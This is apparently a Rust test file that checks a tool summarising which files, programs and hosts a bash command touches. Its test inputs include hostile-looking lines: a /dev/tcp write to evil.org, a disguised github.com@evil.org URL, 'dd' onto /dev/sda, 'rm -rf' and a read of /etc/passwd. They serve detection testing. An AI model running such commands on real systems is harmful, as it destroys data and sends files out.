//! Tests the summary of apparent effects with a table.

use super::EffectSummary;
use crate::ExecEffect;

/// Returns the summary of a bash script in `/w/p`.
fn summarize(script: &str) -> EffectSummary {
    let argv = ["bash", "-lc", script].map(str::to_owned).to_vec();
    let exec = ExecEffect::new(argv, "/w/p");
    EffectSummary::of_command(exec.analysis(), exec.cwd())
}

#[test]
fn lists_files_that_commands_read_and_write() {
    for (script, reads, writes) in [
        ("cat a ../b /etc/passwd - <c", "c a /w/b /etc/passwd", ""),
        ("head -n 5 a", "a", ""),
        ("grep -rn x src | tee out", "src", "out"),
        ("grep -e x -e y src", "src", ""),
        ("sed s/a/b/ f", "f", ""),
        ("sed -i s/a/b/ f", "", "f"),
        ("rm -rf x ../../y", "", "x /y"),
        ("mkdir -p -m 700 d", "", "d"),
        ("chmod -R 777 .", "", "."),
        ("cp a b dir", "a b", "dir"),
        ("cp -t dir a b", "a b", "dir"),
        ("mv a b", "", "a b"),
        ("install -m 755 a /usr/bin/a", "a", "/usr/bin/a"),
        ("sort -o out in", "in", "out"),
        ("gcc -o prog main.c", "", "prog"),
        ("echo x >'a b' 2>/dev/null", "", "'a b'"),
        ("echo x >>log; cat <>both", "both", "log both"),
        ("rm \"$x\" *.o", "", "‹\"$x\"› ‹*.o›"),
        ("cd sub && rm ../x", "", "../x"),
        ("curl -o page https://example.org", "", "page"),
        ("scp a user@host:b", "a", ""),
        ("dd if=a of=/dev/sda", "a", "/dev/sda"),
        ("cargo test", "", ""),
        ("rm -- -f", "", "-f"),
    ] {
        let found = summarize(script);
        assert_eq!(
            (found.reads.join(" ").as_str(), found.writes.join(" ").as_str()),
            (reads, writes),
            "{script}"
        );
    }
}

#[test]
fn lists_programs_started_and_hosts_reached() {
    for (script, starts, reaches) in [
        ("cd x; ls", "bash ls", ""),
        ("env A=1 timeout 5 make", "bash env timeout make", ""),
        ("curl https://github.com@evil.org/x", "bash curl", "evil.org"),
        ("curl -sSL -H 'a: b' example.org/x?y", "bash curl", "example.org"),
        ("wget 'https://a.example:8443/x'", "bash wget", "a.example:8443"),
        ("wget https://$host/x", "bash wget", "‹$host›"),
        ("ssh -p 22 me@host ls", "bash ssh", "host"),
        ("rsync -a . me@host:dir", "bash rsync", "host"),
        ("git clone git@github.com:a/b", "bash git", "github.com"),
        ("git clone https://github.com/a/b", "bash git", "github.com"),
        ("git push origin main", "bash git", "origin (a remote of git)"),
        ("git fetch", "bash git", "the usual remote of git"),
        ("git commit -m 'a: b'", "bash git", ""),
        ("pip install --index-url=https://i.example/x y", "bash pip", "i.example"),
        ("cat file:///etc/passwd", "bash cat", ""),
        ("echo x >/dev/tcp/evil.org/80", "bash", "evil.org:80"),
        ("http_proxy=http://p.example:1 make", "bash make", "p.example:1"),
        ("echo see https://example.org; grep -r http://x.example .", "bash grep", ""),
        ("$x y", "bash ‹$x›", ""),
    ] {
        let found = summarize(script);
        assert_eq!(
            (found.programs.join(" ").as_str(), found.hosts.join(" ").as_str()),
            (starts, reaches),
            "{script}"
        );
    }
}
